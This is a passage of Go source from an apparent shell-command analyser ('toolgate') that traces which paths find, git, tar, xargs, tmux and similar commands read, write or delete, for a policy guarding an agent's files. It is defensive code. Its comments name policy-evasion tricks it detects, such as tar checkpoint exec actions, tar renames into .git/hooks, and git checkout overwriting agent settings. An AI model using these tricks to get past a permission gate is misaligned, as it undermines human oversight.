			"-atime", "-amin", "-ctime", "-cmin", "-size", "-perm", "-inum", "-samefile", "-empty":
			filtered = true
		case "-maxdepth":
			if j+1 < len(args) && args[j+1].text == "0" {
				maxdepth0 = true
			}
		case "-delete":
			access = "delete"
		case "-fprint", "-fprint0", "-fprintf", "-fls":
			if j+1 < len(args) {
				r.addPath(args[j+1], st, "write", idx, "find")
			}
		case "-files0-from":
			// the starting points are read from a file: any path (and the
			// file's content shows in find's errors)
			if j+1 < len(args) {
				r.addPath(args[j+1], st, "read", idx, "find")
				starts = append(starts, field{text: "{files0-from}", pattern: "/*", dynamic: true, wild: true, glob: true})
			}
		}
	}
	names := findNameTests(args[k:])
	texts := make([]string, len(args))
	for j, a := range args {
		if a.dynamic {
			texts = nil
			break
		}
		texts[j] = a.text
	}
	noLinks := texts != nil && findNoLinks(texts)
	if r.finds == nil {
		r.finds = map[int]findInfo{}
	}
	r.finds[idx] = findInfo{names: names, noLinks: noLinks, named: texts != nil && findNamed(texts)}
	for _, s := range starts {
		if access == "delete" && filtered && !maxdepth0 {
			// tests narrow what is deleted to matches below the start
			r.addPath(s, st, "read", idx, "find")
			child := strings.TrimRight(s.text, "/") + "/{}"
			r.addPath(field{text: child, pattern: strings.TrimRight(s.pattern, "/") + "/*", glob: true, dynamic: s.dynamic, findNames: names}, st, "delete", idx, "find")
			continue
		}
		r.addPath(s, st, access, idx, "find")
	}
	for j := k; j < len(args); j++ {
		t := args[j].text
		if t != "-exec" && t != "-execdir" && t != "-ok" && t != "-okdir" {
			continue
		}
		end := j + 1
		for end < len(args) && args[end].text != ";" && args[end].text != "+" {
			end++
		}
		if j+1 < end && strings.Contains(args[j+1].text, "{}") {
			// -exec {} +: the program run is whatever find finds
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "command_name", Text: "find -exec " + args[j+1].text, Cmd: idx})
		}
		sub := make([]field, 0, end-j-1)
		for _, a := range args[j+1 : end] {
			if strings.Contains(a.text, "{}") {
				// {} is what find finds: the start itself (unless a test
				// narrows the matches) and what lies below it
				for _, s := range starts {
					if !filtered || maxdepth0 {
						sub = append(sub, field{text: strings.ReplaceAll(a.text, "{}", s.text), pattern: strings.ReplaceAll(a.pattern, "{}", s.pattern), dynamic: s.dynamic, wild: s.wild})
					}
					if !maxdepth0 {
						v := strings.ReplaceAll(a.text, "{}", strings.TrimRight(s.text, "/")+"/{}")
						f := field{text: v, pattern: strings.ReplaceAll(a.pattern, "{}", strings.TrimRight(s.pattern, "/")+"/*"), dynamic: s.dynamic, wild: s.wild, glob: true}
						if a.text == "{}" {
							f.findNames = names // the entry itself, not a name built from it
							f.noLinks, f.listed = noLinks, true
						}
						sub = append(sub, f)
					}
				}
				continue
			}
			sub = append(sub, a)
		}
		if len(sub) > 0 {
			inner := sc
			inner.ctx = "nested-shell"
			if _, err := r.simple(sub, st, inner, stdin{}, map[string]string{}, nil, []string{"find"}); err != nil {
				return err
			}
		}
		j = end
	}
	return nil
}

// findNameTests returns the -name and -iname patterns ("i:" before an
// -iname one) of a find expression that are a plain conjunction before its
// first action: every entry an action gets passes them all. nil when there
// are none, or an operator (-o, !, parentheses, a comma) could let other
// entries through.
// findUnary are find's tests taking one argument.
var findUnary = map[string]bool{"-name": true, "-iname": true, "-path": true, "-ipath": true, "-wholename": true, "-iwholename": true,
	"-regex": true, "-iregex": true, "-type": true, "-xtype": true, "-user": true, "-group": true, "-perm": true, "-size": true, "-newer": true,
	"-mtime": true, "-mmin": true, "-atime": true, "-amin": true, "-ctime": true, "-cmin": true, "-lname": true, "-ilname": true}

func findNameTests(expr []field) []string {
	var names []string
	acted := false
	for j := 0; j < len(expr); j++ {
		t := expr[j].text
		if expr[j].dynamic {
			return nil
		}
		switch t {
		case "-name", "-iname":
			if j+1 >= len(expr) || expr[j+1].dynamic {
				return nil
			}
			j++
			switch {
			case acted: // a test after the action narrows nothing it did
			case t == "-iname":
				names = append(names, "i:"+strings.ToLower(expr[j].text))
			default:
				names = append(names, expr[j].text)
			}
		case "!", "-not":
			// a negated test narrows a conjunction further; its own name
			// is no test every entry passes
			if j+1 < len(expr) && findUnary[expr[j+1].text] && j+2 < len(expr) && !expr[j+2].dynamic {
				j += 2
				continue
			}
			return nil
		case "-o", "-or", "(", ")", ",":
			return nil
		case "-exec", "-execdir", "-ok", "-okdir":
			acted = true
			for j+1 < len(expr) && expr[j+1].text != ";" && expr[j+1].text != "+" {
				j++
			}
			j++
		case "-fprint", "-fprint0", "-fls":
			acted = true
			j++
		case "-fprintf":
			acted = true
			j += 2
		case "-delete", "-print", "-print0", "-ls", "-prune", "-quit":
			acted = true
		case "-printf":
			acted = true
			j++
		case "-type", "-xtype", "-maxdepth", "-mindepth", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex", "-regextype",
			"-newer", "-anewer", "-cnewer", "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-size", "-perm", "-inum", "-samefile",
			"-user", "-group", "-uid", "-gid", "-links", "-fstype", "-lname", "-ilname", "-used":
			j++ // a further test narrows; its value is no operator
		}
	}
	return names
}

// git: -C changes the directory, -c sets config (judged by the policy),
// clone writes its target, rm deletes, apply/am read.
func (r *run) git(idx int, args []field, st *state, sc scope, in stdin) error {
	local := &state{cwd: st.cwd, vars: st.vars}
	k := 0
	for ; k < len(args); k++ {
		t := args[k].text
		switch {
		case t == "-C" && k+1 < len(args):
			k++
			p := r.addPath(args[k], local, "cwd", idx, "git")
			if p.Dynamic || p.Zone == "unknown" {
				local.cwd = ""
			} else {
				local.cwd = p.Real
			}
			continue
		case (t == "-c" || t == "--git-dir" || t == "--work-tree" || t == "--namespace" || t == "--exec-path" || t == "--config-env") && k+1 < len(args):
			if t == "--git-dir" || t == "--work-tree" {
				r.addPath(args[k+1], local, "write", idx, "git")
			}
			k++
			continue
		case strings.HasPrefix(t, "--git-dir=") || strings.HasPrefix(t, "--work-tree="):
			_, v, _ := strings.Cut(t, "=")
			r.addPath(field{text: v, pattern: v}, local, "write", idx, "git")
			continue
		case strings.HasPrefix(t, "-"):
			continue
		}
		break
	}
	if k >= len(args) {
		return nil
	}
	sub := args[k].text
	rest := args[k+1:]
	if err := r.gitOptions(idx, sub, rest, local, sc); err != nil {
		return err
	}
	var ops []field
	for _, a := range rest {
		if !strings.HasPrefix(a.text, "-") || a.dynamic {
			ops = append(ops, a)
		}
	}
	switch sub {
	case "clone":
		// what a clone brings is code nobody here has read
		target := field{}
		switch {
		case len(ops) >= 2:
			target = ops[len(ops)-1]
		case len(ops) == 1:
			b := strings.TrimSuffix(base(strings.TrimRight(ops[0].text, "/")), ".git")
			target = field{text: b, pattern: b}
		}
		if target.text != "" {
			p := r.addPath(target, local, "write", idx, "git")
			r.opaqueDirs = append(r.opaqueDirs, p.Real)
		}
	case "rm":
		if hasOpt(rest, 0, "--cached") {
			break // only the index: the files stay
		}
		for _, o := range ops {
			r.addPath(o, local, "delete", idx, "git")
		}
	case "send-email":
		for _, o := range ops {
			if !strings.Contains(o.text, "@") {
				r.addPath(o, local, "read", idx, "git")
				r.facts.Paths[len(r.facts.Paths)-1].Role = "upload"
			}
		}
	case "update-index":
		// --cacheinfo MODE,SHA,PATH (or the three apart) puts PATH in the
		// index with any content, which a later checkout of the tree
		// writes: judged as a write of PATH now
		for k := 0; k < len(rest); k++ {
			if rest[k].text != "--cacheinfo" || k+1 >= len(rest) {
				if rest[k].text == "--index-info" {
					r.opaqueWrites(idx, "git update-index --index-info: paths read from its input")
				}
				continue
			}
			v := rest[k+1]
			if parts := strings.SplitN(v.text, ",", 3); len(parts) == 3 {
				r.addPath(field{text: parts[2], pattern: parts[2], dynamic: v.dynamic}, local, "write", idx, "git")
			} else if k+3 < len(rest) {
				r.addPath(rest[k+3], local, "write", idx, "git")
			}
		}
	case "mktree", "fast-import", "read-tree", "commit-tree":
		// trees made from input: what a checkout of them writes is not known
		if sub != "read-tree" || hasOpt(rest, 'u') {
			r.opaqueWrites(idx, "git "+sub+": files of a tree the analysis cannot read")
		}
	case "apply", "am", "hash-object":
		var texts []string
		known := true
		for _, o := range ops {
			p := r.addPath(o, local, "read", idx, "git")
			if sub != "hash-object" {
				text, ok := "", false
				if !o.dynamic && !p.Glob {
					text, ok = r.knownText(p.Real, idx)
				}
				texts = append(texts, text)
				known = known && ok
			}
		}
		if (sub == "apply" || sub == "am") && !gitApplyOnlyReports(rest) {
			if len(ops) == 0 || len(ops) == 1 && ops[0].text == "-" {
				// the patch (or mailbox) on the standard input
				text, ok := r.inputText(in, idx)
				texts, known = []string{text}, ok
			}
			r.gitPatchWrites(idx, sub, rest, texts, known, local)
		}
	case "bundle":
		if len(ops) >= 2 && ops[0].text == "create" {
			r.addPath(ops[1], local, "write", idx, "git")
		}
	case "add", "mv", "restore", "checkout", "diff", "show", "log", "blame", "status", "stash", "reset", "commit", "grep", "switch", "branch", "tag", "merge", "rebase", "cherry-pick", "fetch", "pull", "push", "remote", "config", "init", "submodule", "worktree":
		// operands are refs, messages and pathspecs inside the repository
		if sub == "init" && len(ops) > 0 {
			r.addPath(ops[0], local, "write", idx, "git")
		}
		if sub == "worktree" && len(ops) > 1 && ops[0].text == "add" {
			r.addPath(ops[1], local, "write", idx, "git")
		}
		if sub == "add" || sub == "stash" && (hasOpt(rest, 'u', "--include-untracked") || hasOpt(rest, 'a', "--all")) {
			// what git add reads (and stash -u): the pathspecs, else
			// with -A, -u or a stash the whole work tree
			named := false
			if sub == "add" {
				for _, o := range ops {
					r.addPath(o, local, "read", idx, "git")
					named = true
				}
			}
			if !named && local.cwd != "" {
				root := workTree(local.cwd)
				if root == "" {
					root = local.cwd
				}
				r.addPath(field{text: root, pattern: root}, local, "read", idx, "git")
			}
		}
		if sub == "mv" && len(ops) > 1 {
			// git mv SRC… DST: the sources go, the destination is written
			for _, o := range ops[:len(ops)-1] {
				r.addPath(o, local, "delete", idx, "git")
			}
			r.addPath(ops[len(ops)-1], local, "write", idx, "git")
			defer r.cpLinks(ops, local, true) // and the links it moves
			defer r.carryWritten(ops, local, true)
		}
		// operands are refs, messages, pathspecs and option values; secrets
		// named by path are caught by operands' safety net
	}
	r.gitWorkTree(idx, sub, rest, local)
	return nil
}

// gitWorkTree: a git command that rewrites the work tree can swap (git
// checkout other-branch) or throw away (git reset --hard) a policy kept in
// it. When toolgate's own files lie in the work tree, the files such a
// command names (its pathspecs) are written, or else the work tree's root;
// with the working directory unknown, an unknown place is.
func (r *run) gitWorkTree(idx int, sub string, rest []field, st *state) {
	rewrites, specs := gitRewrites(sub, rest)
	if !rewrites {
		return
	}
	if st.cwd == "" {
		r.addPath(field{text: "*", pattern: "*", dynamic: true, wild: true}, st, "write", idx, "git")
		return
	}
	// the paths named are written from the index or a commit, whatever
	// the script put there (git update-index --cacheinfo, a commit):
	// git checkout -- .claude/settings.json writes the agent's settings
	for _, p := range specs {
		r.addPath(p, st, "write", idx, "git")
	}
	if len(specs) > 0 {
		return
	}
	// the whole work tree: judged for toolgate's own files in it
	root := workTree(st.cwd)
	if root == "" || !r.cls.holdsProtected(root) {
		return
	}
	r.addPath(field{text: root, pattern: root}, st, "write", idx, "git")
}

// gitLongs are git's long options that matter below, with their neighbours
// for expandLong (git takes unambiguous prefixes, --har for --hard).
var gitLongs = strings.Fields(`--hard --soft --mixed --merge --keep --quiet --no-quiet --patch
--recurse-submodules --no-recurse-submodules --intent-to-add --no-refresh --refresh
--pathspec-from-file --pathspec-file-nul --apply --cached --index --check --stat --numstat
--summary --reject --reverse --3way --staged --worktree --source --overlay --no-overlay
--orphan --detach --force --dry-run --interactive --include-untracked --all --keep-index
--no-keep-index --message --create --force-create --guess --no-guess --track --no-track
--ignore-other-worktrees --conflict --ours --theirs --progress --no-progress`)

// gitRewrites says whether git sub (with its arguments) rewrites files of
// the work tree, and, when it names them, the pathspecs it is limited to
// (git checkout -- README.md, git restore a b, git clean -fd build/);
// nil means the whole work tree.
func gitRewrites(sub string, rest []field) (bool, []field) {
	rest = expandArgs(rest, gitLongs...)
	has := func(short byte, long ...string) bool { return hasOpt(rest, short, long...) }
	var ops, afterDD []field
	dd := false
	for k := 0; k < len(rest); k++ {
		a := rest[k]
		switch {
		case dd:
			afterDD = append(afterDD, a)
		case a.text == "--":
			dd = true
		case a.text == "--source" || a.text == "-s" || a.text == "-m" || a.text == "--message" || a.text == "--conflict" || a.text == "--pathspec-from-file":
			k++ // an option's value
		case strings.HasPrefix(a.text, "-") && !a.dynamic:
		default:
			ops = append(ops, a)
		}
	}
	first := ""
	if len(ops) > 0 {
		first = ops[0].text
	}
	switch sub {
	case "checkout":
		if has(0, "--orphan") || (has('b') || has('B')) && len(ops) <= 1 && !dd {
			return false, nil // a new branch at HEAD: the files stay
		}
		if dd {
			return true, afterDD
		}
		return true, nil
	case "switch":
		if (has('c', "--create") || has('C', "--force-create")) && len(ops) <= 1 {
			return false, nil
		}
		return true, nil
	case "restore":
		if has('S', "--staged") && !has('W', "--worktree") {
			return false, nil
		}
		return true, append(ops, afterDD...)
	case "reset":
		return has(0, "--hard", "--merge", "--keep"), nil
	case "apply", "am":
		if sub == "am" {
			return !has(0, "--show-current-patch"), nil
		}
		if has(0, "--cached") && !has(0, "--index") {
			return false, nil // the index only
		}
		if has(0, "--stat", "--numstat", "--summary", "--check") && !has(0, "--apply") {
			return false, nil // reports only
		}
		return true, nil
	case "stash":
		switch first {
		case "list", "show", "create", "store", "branch":
			return false, nil
		}
		return true, afterDD
	case "clean":
		if has('n', "--dry-run") {
			return false, nil
		}
		return true, append(ops, afterDD...)
	case "bisect":
		switch first {
		case "log", "view", "visualize", "terms", "help":
			return false, nil
		}
		return true, nil
	case "sparse-checkout":
		return first != "list", nil
	case "read-tree":
		return has('u'), nil
	case "submodule":
		return first == "update" || first == "deinit", nil
	case "pull", "merge", "rebase", "cherry-pick", "revert", "checkout-index", "filter-branch",
		"merge-recursive", "merge-resolve", "merge-octopus", "merge-subtree", "merge-ours", "merge-index",
		"merge-one-file", "mergetool", "worktree":
		if sub == "worktree" {
			return false, nil // a new work tree elsewhere (its path is judged as a write)
		}
		return true, nil
	}
	return false, nil
}

// workTree is the git work tree holding dir: the nearest directory at or
// above it with a .git entry; "" when there is none.
func workTree(dir string) string {
	for d := dir; ; d = path.Dir(d) {
		if _, err := os.Lstat(d + "/.git"); err == nil {
			return d
		}
		if d == "/" || d == "." || d == "" {
			return ""
		}
	}
}

// tar: the archive is written when creating and read otherwise; members are
// read when creating and written (under -C) when extracting.
func (r *run) tar(idx int, args []field, st *state, sc scope) error {
	// TAR_OPTIONS (for this command, or exported) is read before the
	// command line
	opts, ok := r.facts.Commands[idx].Env["TAR_OPTIONS"]
	if !ok {
		opts, ok = st.vars["TAR_OPTIONS"]
	}
	if ok {
		var pre []field
		for _, o := range strings.Fields(opts) {
			pre = append(pre, field{text: o, pattern: o})
		}
		args = append(pre, args...)
	}
	args = expandArgs(args, tarLongs...)
	mode := ""
	absolute, removes, renames := false, false, false
	strip := 0
	filtered := false // a program of its own reads the archive (-I, --use-compress-program)
	var archive *field
	dir := st.cwd
	var members []field
	setMode := func(ch byte) {
		switch ch {
		case 'c', 'r', 'u', 'A':
			mode = "create"
		case 'x':
			mode = "extract"
		case 't', 'd':
			if mode == "" {
				mode = "list"
			}
		}
	}
	for k := 0; k < len(args); k++ {
		a := args[k]
		t := a.text
		switch {
		case a.dynamic && strings.HasPrefix(t, "-"):
			// an option with a value known only at run time
			// (--to-command="$(…)", -I"$(…)"): it may name a program
			r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: t, Cmd: idx})
		case a.dynamic:
			members = append(members, a)
		case strings.HasPrefix(t, "--"):
			key, val, eq := strings.Cut(t, "=")
			valueField := field{text: val, pattern: val}
			switch key {
			case "--file", "--directory", "--to-command", "--use-compress-program", "--checkpoint-action", "--info-script", "--new-volume-script", "--rsh-command", "--files-from", "--exclude-from",
				"--index-file", "--listed-incremental", "--volno-file", "--newer", "--after-date", "--newer-mtime", "--transform", "--xform":
				if !eq && k+1 < len(args) {
					k++
					val = args[k].text
					valueField = args[k]
				}
			}
			if valueField.dynamic && (key == "--to-command" || key == "--use-compress-program" || key == "--info-script" || key == "--new-volume-script" || key == "--rsh-command" || key == "--checkpoint-action") {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: t + " " + valueField.text, Cmd: idx})
				continue
			}
			switch key {
			case "--index-file", "--listed-incremental", "--volno-file":
				// tar writes its listing, the snapshot, the volume number
				r.addPath(valueField, st, "write", idx, "tar")
			case "--absolute-names":
				absolute = true
			case "--transform", "--xform":
				renames = true
			case "--remove-files":
				removes = true
			case "--strip-components", "--strip":
				strip = -1 // not read below: the names are not known
				if n, err := strconv.Atoi(val); err == nil && n >= 0 && eq {
					strip = n
				}
			default:
				// GNU tar takes unambiguous abbreviations of long options
				if len(key) >= 5 && strings.HasPrefix("--remove-files", key) {
					removes = true
				}
			case "--one-top-level":
				if eq {
					r.addPath(field{text: val, pattern: val}, st, "write", idx, "tar")
				}
			case "--create":
				mode = "create"
			case "--extract", "--get":
				mode = "extract"
			case "--list":
				mode = "list"
			case "--file":
				v := field{text: val, pattern: val}
				archive = &v
			case "--directory":
				p := r.addPath(field{text: val, pattern: val}, st, "cwd", idx, "tar")
				dir = p.Real
			case "--to-command", "--use-compress-program", "--info-script", "--new-volume-script", "--rsh-command":
				filtered = filtered || key == "--use-compress-program"
				// these programs read archive data on stdin
				if err := r.nestedIn(val, st.clone(), sc, "nested-shell", stdin{kind: "pipe"}); err != nil {
					return err
				}
			case "--checkpoint-action":
				if v, ok := strings.CutPrefix(val, "exec="); ok {
					if err := r.nested(v, st, sc, "nested-shell"); err != nil {
						return err
					}
				}
			case "--files-from", "--exclude-from":
				r.addPath(field{text: val, pattern: val}, st, "read", idx, "tar")
				if key == "--files-from" {
					members = append(members, unknownItem) // names read from it
				}
			}
		case strings.HasPrefix(t, "-") && len(t) > 1, k == 0 && !strings.Contains(t, "/") && !strings.Contains(t, "."):
			// bundled options: "czf", "-xvf", "-C dir"
			letters := strings.TrimPrefix(t, "-")
			for j := 0; j < len(letters); j++ {
				ch := letters[j]
				setMode(ch)
				if ch == 'P' {
					absolute = true
				}
				if ch == 's' && idx >= 0 && idx < len(r.facts.Commands) && r.facts.Commands[idx].Name == "bsdtar" {
					renames = true // bsdtar -s /old/new/
				}
				if strings.IndexByte("fCIXTbFgKNVLH", ch) >= 0 {
					var v field
					if j+1 < len(letters) && t[0] == '-' {
						s := letters[j+1:]
						v = field{text: s, pattern: s}
					} else if k+1 < len(args) {
						k++
						v = args[k]
					}
					switch ch {
					case 'f':
						vv := v
						archive = &vv
					case 'C':
						p := r.addPath(v, &state{cwd: dir, vars: st.vars}, "cwd", idx, "tar")
						dir = p.Real
					case 'I', 'F':
						filtered = filtered || ch == 'I'
						// -I: the compressor; -F: the info script run at
						// each volume's end
						if v.dynamic {
							r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: v.text, Cmd: idx})
						} else if err := r.nestedIn(v.text, st.clone(), sc, "nested-shell", stdin{kind: "pipe"}); err != nil {
							return err
						}
					case 'g':
						r.addPath(v, st, "write", idx, "tar") // the snapshot file
					case 'X', 'T':
						r.addPath(v, st, "read", idx, "tar")
						if ch == 'T' {
							members = append(members, unknownItem) // names read from it
						}
					}
					if t[0] == '-' {
						break
					}
				}
			}
		default:
			members = append(members, a)
		}
	}
	archiveReal := ""
	if archive != nil && archive.text != "-" {
		acc := "read"
		if mode == "create" {
			acc = "write"
		}
		if p := r.addPath(*archive, st, acc, idx, "tar"); !archive.dynamic && !p.Glob {
			archiveReal = p.Real
		}
	}
	memberAcc := "read"
	if mode == "create" && removes {
		memberAcc = "delete" // --remove-files: what goes in is deleted
	}
	at := &state{cwd: dir, vars: st.vars}
	if mode == "extract" && absolute {
		// -P keeps leading "/" and "..": members may land anywhere
		r.addPath(field{text: "{member}", pattern: "*", dynamic: true, wild: true}, at, "write", idx, "tar")
	}
	if mode == "extract" && renames {
		// --transform 's,^,.git/hooks/,': a member may be renamed to
		// anything below the directory, the repository's own files
		// included
		for _, f := range []string{".git/config", ".git/hooks/{member}"} {
			r.addPath(field{text: f, pattern: strings.ReplaceAll(f, "{member}", "*"), dynamic: strings.Contains(f, "{"), glob: strings.Contains(f, "{")}, at, "write", idx, "tar")
		}
	}
	if mode == "extract" {
		memberAcc = "write"
		if len(members) == 0 {
			r.addPath(field{text: ".", pattern: "."}, at, "write", idx, "tar")
			// the names the archive holds, when it can be read
			listed := false
			if archiveReal != "" && dir != "" && strip >= 0 && !renames && !filtered && !r.scriptWrote(archiveReal) {
				if ms, ok := archiveMembers(archiveReal); ok {
					r.extractMembers(idx, "tar", ms, dir, strip, at)
					listed = true
				}
			}
			if !listed {
				r.opaqueWrites(idx, "tar extracting an archive the analysis cannot read")
			}
		} else {
			// names or patterns of members (--wildcards '*'): which names
			// come out is the archive's to say
			r.opaqueWrites(idx, "tar extracting members of an archive the analysis cannot read")
		}
	}
	for _, m := range members {
		r.addPath(m, at, memberAcc, idx, "tar")
	}
	return nil
}

// feed is how xargs and parallel give their command its arguments.
type feed struct {
	replace  string  // -I/-i/{} replacement string; "" appends the items
	items    []field // explicit items (parallel :::); nil means read stdin
	argFile  *field  // items come from this file
	commands bool    // parallel with no command: each item is a command line
	script   bool    // parallel 'cmd {}': the command is a script
}

// pathListers print paths below their path operands (or the cwd).
var pathListers = map[string]bool{"find": true, "fd": true, "fdfind": true, "ls": true, "grep": true, "egrep": true,
	"fgrep": true, "rg": true, "ag": true, "ack": true, "git": true, "tree": true}

const maxFeedItems = 32

// applyFeed gives the wrapped command the arguments xargs or parallel would:
// literal input as written, paths from a path-listing producer as "dir/{}",
// anything else as an unknown value. done means the feed was analysed as
// command lines and no command is left.
func (r *run) applyFeed(fd *feed, argv []field, st *state, sc scope, in stdin, idx int, cwd string) ([]field, bool, error) {
	local := &state{cwd: cwd, vars: st.vars}
	items := fd.items
	if items == nil {
		if fd.argFile != nil {
			r.addPath(*fd.argFile, local, "read", idx, "xargs")
			items = []field{unknownItem}
		} else {
			items, _ = r.inputItems(in, false)
		}
	}
	if len(items) > maxFeedItems {
		items = items[:maxFeedItems]
	}
	if fd.commands {
		for _, it := range items {
			if it.dynamic {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: it.text, Cmd: idx})
				continue
			}
			if err := r.nested(it.text, local, sc, "nested-shell"); err != nil {
				return nil, true, err
			}
		}
		return nil, true, nil
	}
	if fd.script && len(argv) == 1 {
		if len(items) == 0 {
			items = []field{{text: fd.replace, pattern: fd.replace}} // runs once
		}
		for _, it := range items {
			if it.dynamic {
				r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: it.text, Cmd: idx})
				continue
			}
			if err := r.nested(strings.ReplaceAll(argv[0].text, fd.replace, shellQuote(it.text)), local, sc, "nested-shell"); err != nil {
				return nil, true, err
			}
		}
		return nil, true, nil
	}
	replaced := false
	var out []field
	if fd.replace != "" {
		for _, a := range argv {
			if !strings.Contains(a.text, fd.replace) {
				out = append(out, a)
				continue
			}
			replaced = true
			for _, it := range items {
				if it.glob && strings.HasSuffix(it.text, "/{}") && !strings.HasPrefix(a.text, fd.replace) {
					// a lister's output put after other text (dir/{}):
					// whether it prints names or paths is not known, so
					// the item is any entry below what comes before it
					out = append(out, field{text: strings.ReplaceAll(a.text, fd.replace, "{}"),
						pattern: strings.ReplaceAll(a.pattern, fd.replace, "*"), dynamic: true, glob: true})
					continue
				}
				f := field{text: strings.ReplaceAll(a.text, fd.replace, it.text),
					pattern: strings.ReplaceAll(a.pattern, fd.replace, it.pattern), dynamic: it.dynamic || a.dynamic,
					subst: it.subst, glob: it.glob, allEntries: it.allEntries && a.text == fd.replace, noLinks: it.noLinks && a.text == fd.replace, findNames: whole(it.findNames, a.text == fd.replace),
					listed: it.listed && a.text == fd.replace, tracked: it.tracked && a.text == fd.replace}
				if it.leadOpen && a.text != fd.replace && !numbersFrom(in, r.facts.Commands) {
					// src/{} with an item that could be any text: it
					// climbs out of src, and what follows it is all that
					// is known
					f.climbs, f.climbRest = true, a.pattern[strings.LastIndex(a.pattern, fd.replace)+len(fd.replace):]
				}
				out = append(out, f)
			}
		}
	}
	if !replaced {
		out = append(append(out[:0], argv...), items...)
	}
	return out, false, nil
}

// gitValueOpts are git's global options that take a separate value.
var gitValueOpts = map[string]bool{"-C": true, "-c": true, "--git-dir": true, "--work-tree": true, "--namespace": true, "--config-env": true, "--exec-path": true, "--super-prefix": true}

// flagsOf computes Command.Flags and Command.Subcommand.
func flagsOf(name string, argv []string) (map[string]bool, string) {
	flags := map[string]bool{}
	sub := ""
	for i := 1; i < len(argv); i++ {
		a := argv[i]
		switch {
		case a == "--":
			if sub == "" && i+1 < len(argv) {
				sub = argv[i+1]
			}
			return flags, sub
		case strings.HasPrefix(a, "--"):
			k, _, _ := strings.Cut(a, "=")
			flags[k] = true
			if name == "git" || sub == "" {
				i += globalValueWords(name, a)
			}
		case len(a) > 1 && a[0] == '-':
			for j := 1; j < len(a); j++ {
				c := a[j]
				if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
					flags[string(c)] = true
				}
			}
			if name == "git" || sub == "" {
				i += globalValueWords(name, a)
			}
		case sub == "":
			sub = a
		}
	}
	return flags, sub
}

// scriptArg analyses an argument that is a shell command line.
func (r *run) scriptArg(idx int, f field, st *state, sc scope) error {
	if f.dynamic {
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: f.text, Cmd: idx})
		return nil
	}
	return r.nested(f.text, st, sc, "nested-shell")
}

// runsSub handles "poetry run CMD", "uv run CMD", "bundle exec CMD",
// "direnv exec DIR CMD", "conda run -n ENV CMD", "pnpm exec CMD",
// "cargo run -- ARGS" (the binary is the project's own): the command after
// the verb runs with the same arguments.
func (r *run) runsSub(idx int, name string, args []field, st, local *state, sc scope, in stdin) (bool, error) {
	verbs := map[string]bool{"run": true, "exec": true, "x": name == "bun" || name == "pnpm"}
	k, dyn := verbAt(name, args, verbs)
	if (k >= len(args) || !verbs[args[k].text]) && dyn >= 0 && dyn+1 < len(args) {
		// a word not known here may be the verb ("uv $V sh -c …"): what
		// follows it is judged as the command it would run
		_, err := r.simple(args[dyn+1:], local, sc, in, map[string]string{}, nil, []string{name + " " + args[dyn].text})
		return true, err
	}
	if k >= len(args) || !verbs[args[k].text] || name == "cargo" || name == "yarn" && args[k].text == "run" || name == "pnpm" && args[k].text == "run" || name == "bun" && args[k].text == "run" || name == "deno" && args[k].text == "run" {
		return false, nil // package.json scripts and cargo run build the project's own code
	}
	verb := args[k].text
	k++
	valueOpts := map[string]bool{"-n": true, "--name": true, "-p": true, "--prefix": true, "--with": true, "--python": true, "-e": true, "--env": true, "--env-file": true, "--directory": true, "--project": true, "--package": true, "--from": true, "-C": true, "--cwd": true}
	for k < len(args) && strings.HasPrefix(args[k].text, "-") && args[k].text != "--" {
		if valueOpts[args[k].text] {
			k++
		}
		k++
	}
	if k < len(args) && args[k].text == "--" {
		k++
	}
	if name == "direnv" && verb == "exec" && k < len(args) {
		r.addPath(args[k], local, "cwd", idx, name)
		k++
	}
	if k >= len(args) {
		return true, nil
	}
	_, err := r.simple(args[k:], local, sc, in, map[string]string{}, nil, []string{name + " " + verb})
	return true, err
}

// verbAt is the index of the verb in a runner's arguments (len(args) when
// there is none): the first word, after the global options and their
// values, that is not an option. Where that word is not one of verbs, it
// may be the value of an option the table does not know (or a word whose
// expansion is unknown): it is passed over, so "uv --opt v run CMD" still
// finds run and CMD is judged. dyn is the first word passed over whose
// expansion is unknown (it may be the verb itself), -1 when none.
func verbAt(name string, args []field, verbs map[string]bool) (k, dyn int) {
	dyn = -1
	for k < len(args) {
		t := args[k].text
		switch {
		case t == "--":
			return k, dyn
		case strings.HasPrefix(t, "-") && !args[k].dynamic:
			k += 1 + globalValueWords(name, t)
			continue
		case verbs[t] && !args[k].dynamic:
			return k, dyn
		case args[k].dynamic:
			if dyn < 0 {
				dyn = k
			}
			k++
			continue
		case k > 0 && optionMayTakeValue(args[k-1].text):
			k++
			continue
		}
		return k, dyn
	}
	return k, dyn
}

// optionMayTakeValue: an option word without "=" (its value, if it takes
// one, is the next word).
func optionMayTakeValue(t string) bool {
	return strings.HasPrefix(t, "-") && t != "-" && t != "--" && !strings.Contains(t, "=")
}

// tmux new-session/new-window/split-window/run-shell/respawn-pane take a
// shell command; send-keys types one.
func (r *run) tmux(idx int, args []field, st *state, sc scope) error {
	valueOpts := map[string]bool{"-t": true, "-s": true, "-n": true, "-c": true, "-e": true, "-F": true, "-x": true, "-y": true, "-l": true, "-L": true, "-S": true, "-f": true, "-T": true}
	script := func(text string) {
		r.facts.Dynamic = append(r.facts.Dynamic, Dynamic{Kind: "nested_script", Text: "tmux " + text, Cmd: idx})
	}
	// tmux's own options before the first command: -f FILE reads tmux
	// commands from a file nobody saw
	k := 0
	for k < len(args) && strings.HasPrefix(args[k].text, "-") {
		if args[k].text == "-f" && k+1 < len(args) && args[k+1].text != "/dev/null" {
			script("-f " + args[k+1].text)
		}
		if args[k].text == "-c" && k+1 < len(args) {
			// tmux -c CMD runs CMD with the default shell, as sh -c
			if err := r.scriptArg(idx, args[k+1], st, sc); err != nil {
				return err
			}
		}
		if valueOpts[args[k].text] {
			k++
		}
		k++
	}
	// the commands, separated by ";" words (\; in the shell, or a word
	// ending in one): every one is judged, not only the first
	var segments [][]field
	var cur []field
	for _, a := range args[k:] {
		if a.dynamic {
			script(a.text)
			return nil
		}
